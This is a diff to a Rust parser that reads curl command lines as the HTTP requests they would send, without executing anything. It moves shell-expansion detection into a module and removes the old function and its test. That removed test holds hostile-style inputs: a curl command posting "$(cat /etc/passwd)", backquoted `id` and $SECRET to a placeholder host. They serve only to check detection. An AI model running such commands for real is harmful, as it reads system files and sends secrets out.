@@ -1,6 +1,8 @@
 //! A curl command line, read as the request that it would send. Nothing is sent, no file is read,
 //! no shell is asked.
 
+mod expansion;
+
 use std::fmt;
 
 use form_urlencoded::byte_serialize;
@@ -109,14 +111,16 @@ const SHORT: &str = "XHdumowEAexbc";
 /// It is none, or what it would send cannot be known.
 pub(crate) fn read(command: &str) -> Result<Sent, Unreadable> {
     let command = command.strip_prefix("$ ").unwrap_or(command);
-    // Windows writes its line breaks with other marks than a shell does.
-    let command = command.replace("^\r\n", " ").replace("^\n", " ").replace("`\n", " ");
+    // A mark at the end of a line goes on in the next one; Windows has other marks than a shell.
+    let command = ["\\", "^", "`"].iter().fold(command.replace('\r', ""), |command, mark| {
+        command.replace(&format!("{mark}\n"), " ")
+    });
     let words = shlex::split(&command).ok_or(Unreadable::Quotes)?;
     if words.len() > WORDS_MAX {
         return Err(Unreadable::TooLong);
     }
     let mut reading = Reading {
-        sent: Sent { expansions: expansions(&command), ..Sent::default() },
+        sent: Sent { expansions: expansion::all(&command), ..Sent::default() },
         ..Reading::default()
     };
     let mut words = words.into_iter().skip(1);
@@ -285,36 +289,6 @@ fn urlencoded(value: &str) -> Result<String, Unreadable> {
     }
 }
 
-/// What the shell would replace: `$NAME`, `${NAME}`, `$(...)` and backquotes outside of single
-/// quotes.
-fn expansions(command: &str) -> Vec<String> {
-    let mut found = Vec::new();
-    let (mut single, mut double, mut escaped) = (false, false, false);
-    for (at, character) in command.char_indices() {
-        match character {
-            _ if escaped => escaped = false,
-            '\\' if !single => escaped = true,
-            '\'' if !double => single = !single,
-            '"' if !single => double = !double,
-            '$' | '`' if !single => {
-                let rest = command.get(at + 1..).unwrap_or_default();
-                let name = |one: char| one.is_ascii_alphanumeric() || one == '_';
-                let end = match rest.chars().next() {
-                    Some('{') => rest.find('}').map_or(0, |end| end + 1),
-                    Some('(') => 1,
-                    _ => rest.find(|one| !name(one)).unwrap_or(rest.len()),
-                };
-                if end > 0 {
-                    found.push(format!("{character}{}", rest.get(..end).unwrap_or_default()));
-                }
-            }
-            _ => {}
-        }
-    }
-    found.truncate(20);
-    found
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -372,14 +346,5 @@ mod tests {
         assert_eq!(refused("curl https://a.test -d"), Unreadable::NoValue("-d".to_owned()));
         assert_eq!(refused("curl -F a=b https://a.test"), Unreadable::NotAForm("-F".to_owned()));
         assert_eq!(refused(&format!("curl {}", "x ".repeat(2_000))), Unreadable::TooLong);
-    }
-
-    #[test]
-    fn what_the_shell_would_put_in_is_named() {
-        // Variables and commands outside of single quotes, and the same within them.
-        let sent = read(r#"curl https://a.test -d "s=$SECRET" -d t=${T} -d 'u=$U' -d v=\$V"#);
-        assert_eq!(sent.expect("a request").expansions, ["$SECRET", "${T}"]);
-        let sent = read(r#"curl https://a.test -d "s=$(cat /etc/passwd)" -d "t=`id`""#);
-        assert_eq!(sent.expect("a request").expansions, ["$(", "`id"]);
     }
 }
